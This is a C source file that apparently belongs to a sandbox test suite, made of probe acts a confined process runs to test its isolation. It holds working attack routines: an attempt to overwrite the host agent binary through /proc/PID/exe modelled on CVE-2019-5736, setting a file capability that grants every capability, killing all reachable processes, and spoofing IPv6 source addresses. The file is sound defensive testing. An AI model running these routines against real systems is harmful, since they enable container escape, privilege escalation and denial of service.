/* SPDX-License-Identifier: Apache-2.0 */

/* Single acts that a scenario is made of. */

#include "probe.h"

#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/xattr.h>
#include <unistd.h>

typedef int act_fn(char **arguments);

/* uid, effective uid, effective capabilities, no_new_privs. */
static int act_whoami(char **arguments)
{
        struct __user_cap_header_struct head = { _LINUX_CAPABILITY_VERSION_3, 0 };
        struct __user_cap_data_struct data[2] = { { 0 } };

        (void) arguments;
        (void) syscall(SYS_capget, &head, data);
        return printf("%u %u %u %x%08x %d\n", getuid(), geteuid(), getegid(), data[1].effective,
                      data[0].effective, prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0))
               < 0;
}

static int act_descriptors(char **arguments)
{
        DIR *d = opendir("/proc/self/fd");
        int own;

        (void) arguments;
        if (!d)
                return 1;
        own = dirfd(d);
        for (const struct dirent *e; (e = readdir(d));)
                if (e->d_name[0] != '.' && strtol(e->d_name, NULL, 10) != own)
                        (void) printf("%s ", e->d_name);
        (void) closedir(d);
        return puts("") < 0;
}

/* All that can be reached by signals; not the caller itself. */
static int act_kill_all(char **arguments)
{
        (void) arguments;
        (void) kill(-1, SIGKILL);
        for (pid_t pid = 1; pid < 65536; pid++)
                if (pid != getpid())
                        (void) kill(pid, SIGKILL);
        return puts("alone") < 0;
}

/* A file that would give whoever runs it every capability. */
static int act_setcap(char **arguments)
{
        const struct vfs_cap_data all = { VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE,
                                          { { ~0U, 0 }, { 0x1ff, 0 } } };
        const long r = setxattr(arguments[0], "security.capability", &all, sizeof(all), 0);

        return printf("%s\n", r < 0 ? strerrorname_np(errno) : "set") < 0;
}

static int act_crash(char **arguments)
{
        const struct rlimit most = { RLIM_INFINITY, RLIM_INFINITY }, none = { 0, 0 };

        /* Either of them where it is allowed. */
        if (setrlimit(RLIMIT_CORE, &most) < 0 && arguments[0])
                (void) setrlimit(RLIMIT_CORE, &none);
        (void) prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
        abort();
}

/* CVE-2019-5736: a program in memory that bears the agent's name, and does not protect itself yet.
 * 1 if it could be opened, 2 if it could be changed, too. */
static int overwrite(const char *process)
{
        char path[300], to[64] = "";
        int fd, again, r = 1;

        (void) snprintf(path, sizeof(path), "/proc/%s/exe", process);
        if (readlink(path, to, sizeof(to) - 1) < 0 || !strstr(to, "hutch-execd"))
                return 0;
        fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return 0;
        (void) fchmod(fd, 0777);
        (void) snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        again = open(path, O_RDWR | O_CLOEXEC);
        if (again >= 0 && (pwrite(again, "evil", 4, 0) > 0 || ftruncate(again, 1) == 0))
                r = 2;
        if (again >= 0)
                (void) close(again);
        again = open(path, O_RDWR | O_TRUNC | O_CLOEXEC);
        if (again >= 0)
                r = 2;
        (void) close(fd);
        return r;
}

/* Looks at all processes again and again until its input ends, and writes down what came of it. */
static int act_hunt(char **arguments)
{
        struct pollfd input = { .fd = STDIN_FILENO, .events = POLLIN };
        int found[3] = { 0 };
        char path[64];
        FILE *f;

        (void) arguments;
        (void) snprintf(path, sizeof(path), "/tmp/hunt-%u", getuid());
        f = fopen(path, "we");
        if (!f || puts("hunting") < 0 || fflush(stdout) != 0)
                return 1;
        while (poll(&input, 1, 0) == 0) {
                DIR *d = opendir("/proc");

                for (const struct dirent *e; d && (e = readdir(d));)
                        if (e->d_name[0] >= '1' && e->d_name[0] <= '9')
                                found[overwrite(e->d_name)]++;
                if (d)
                        (void) closedir(d);
                rewind(f);
                (void) fprintf(f, "opened %d changed %d\n", found[1] + found[2], found[2]);
                (void) fflush(f);
        }
        return fclose(f) != 0;
}

/* Watches files until its input ends, and writes down how often each was opened, by whomever. A directory
 * also tells of what is in it. What may not be read can't be watched. */
static int act_watch(char **arguments)
{
        _Alignas(struct inotify_event) char events[65536];
        const int fd = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
        int watches[64], opened[COUNT(watches) + 1] = { 0 };
        FILE *f = fopen("/tmp/watched", "we");
        char byte;

        for (int i = 0; i < (int) COUNT(watches) && arguments[i]; i++)
                watches[i] = inotify_add_watch(fd, arguments[i], IN_OPEN);
        if (!f || puts("watching") < 0 || fflush(stdout) != 0)
                return 1;
        while (read(STDIN_FILENO, &byte, 1) > 0)
                ;
        for (ssize_t n; (n = read(fd, events, sizeof(events))) > 0;)
                for (const char *p = events; p < events + n;) {
                        const struct inotify_event *e = (const void *) p;

                        opened[e->wd > 0 && e->wd < (int) COUNT(opened) ? e->wd : 0]++;
                        p += sizeof(*e) + e->len;
                }
        for (int i = 0; i < (int) COUNT(watches) && arguments[i]; i++)
                (void) fprintf(f, "%d %s\n", watches[i] > 0 ? opened[watches[i]] : 0, arguments[i]);
        return fclose(f) != 0;
}

/* Opens each file. */
static int act_open(char **arguments)
{
        for (; *arguments; arguments++) {
                const int fd = open(*arguments, O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);

                (void) printf("%s %s\n", fd < 0 ? strerrorname_np(errno) : "opened", *arguments);
                if (fd >= 0)
                        (void) close(fd);
        }
        return 0;
}

/* connect ADDRESS PORT: how it went. */
static int act_connect(char **arguments)
{
        struct sockaddr_in four = { .sin_family = AF_INET };
        struct sockaddr_in6 six = { .sin6_family = AF_INET6 };
        const bool is_six = strchr(arguments[0], ':') != NULL;
        struct pollfd p = { .events = POLLOUT };
        int error = 0;
        socklen_t n = sizeof(error);
        long r;

        four.sin_port = six.sin6_port = htons((uint16_t) strtol(arguments[1], NULL, 10));
        if (inet_pton(is_six ? AF_INET6 : AF_INET, arguments[0],
                      is_six ? (void *) &six.sin6_addr : (void *) &four.sin_addr)
            != 1)
                return 2;
        p.fd = socket(is_six ? AF_INET6 : AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
        r = connect(p.fd, is_six ? (struct sockaddr *) &six : (struct sockaddr *) &four,
                    is_six ? sizeof(six) : sizeof(four));
        if (r < 0 && errno == EINPROGRESS) {
                r = poll(&p, 1, 1500);
                if (r == 0)
                        error = ETIMEDOUT;
                else
                        (void) getsockopt(p.fd, SOL_SOCKET, SO_ERROR, &error, &n);
        } else if (r < 0)
                error = errno;
        return printf("%s\n", error != 0 ? strerrorname_np(error) : "connected") < 0;
}

/* listen PORT: on all addresses, until its input ends. */
static int act_listen(char **arguments)
{
        const struct sockaddr_in6 at = { .sin6_family = AF_INET6,
                                         .sin6_port =
                                                 htons((uint16_t) strtol(arguments[0], NULL, 10)) };
        const int fd = socket(AF_INET6, SOCK_STREAM | SOCK_CLOEXEC, 0);
        char byte;

        if (bind(fd, (const struct sockaddr *) &at, sizeof(at)) < 0 || listen(fd, 16) < 0)
                return 1;
        if (puts("listening") < 0 || fflush(stdout) != 0)
                return 1;
        while (read(STDIN_FILENO, &byte, 1) > 0)
                ;
        return 0;
}

/* spoof SOURCE DESTINATION PORT: a datagram from an address that is not ours. */
static int act_spoof(char **arguments)
{
        struct sockaddr_in6 from = { .sin6_family = AF_INET6 }, to = { .sin6_family = AF_INET6 };
        const int on = 1, fd = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        long r;

        to.sin6_port = htons((uint16_t) strtol(arguments[2], NULL, 10));
        if (inet_pton(AF_INET6, arguments[0], &from.sin6_addr) != 1
            || inet_pton(AF_INET6, arguments[1], &to.sin6_addr) != 1)
                return 2;
        (void) setsockopt(fd, IPPROTO_IPV6, 78 /* IPV6_FREEBIND */, &on, sizeof(on));
        r = bind(fd, (struct sockaddr *) &from, sizeof(from));
        if (r == 0)
                r = sendto(fd, "spoofed", 7, 0, (struct sockaddr *) &to, sizeof(to));
        return printf("%s\n", r < 0 ? strerrorname_np(errno) : "sent") < 0;
}

/* Which one this is: others outside can look for processes of the same. */
static int act_namespace(char **arguments)
{
        char text[64] = "";

        (void) arguments;
        (void) !readlink("/proc/self/ns/pid", text, sizeof(text) - 1);
        return printf("%s\n", text) < 0;
}

static int act_cat(char **arguments)
{
        char text[4096];
        const long r = read_file(arguments[0], text, sizeof(text));

        return printf("%s\n", r < 0 ? strerrorname_np((int) -r) : text) < 0;
}

static const struct {
        const char *name;
        act_fn *fn;
        int arguments;
} acts[] = {
        { "whoami", act_whoami, 0 },       { "descriptors", act_descriptors, 0 },
        { "kill-all", act_kill_all, 0 },   { "setcap", act_setcap, 1 },
        { "crash", act_crash, 0 },         { "hunt", act_hunt, 0 },
        { "connect", act_connect, 2 },     { "listen", act_listen, 1 },
        { "spoof", act_spoof, 3 },         { "cat", act_cat, 1 },
        { "namespace", act_namespace, 0 }, { "watch", act_watch, 1 },
        { "open", act_open, 1 },
};

int act_main(int argc, char **argv)
{
        for (size_t i = 0; i < COUNT(acts); i++)
                if (strcmp(acts[i].name, argv[0]) == 0 && argc > acts[i].arguments)
                        return acts[i].fn(argv + 1);
        (void) fprintf(stderr, "there is no such look\n");
        return 2;
}
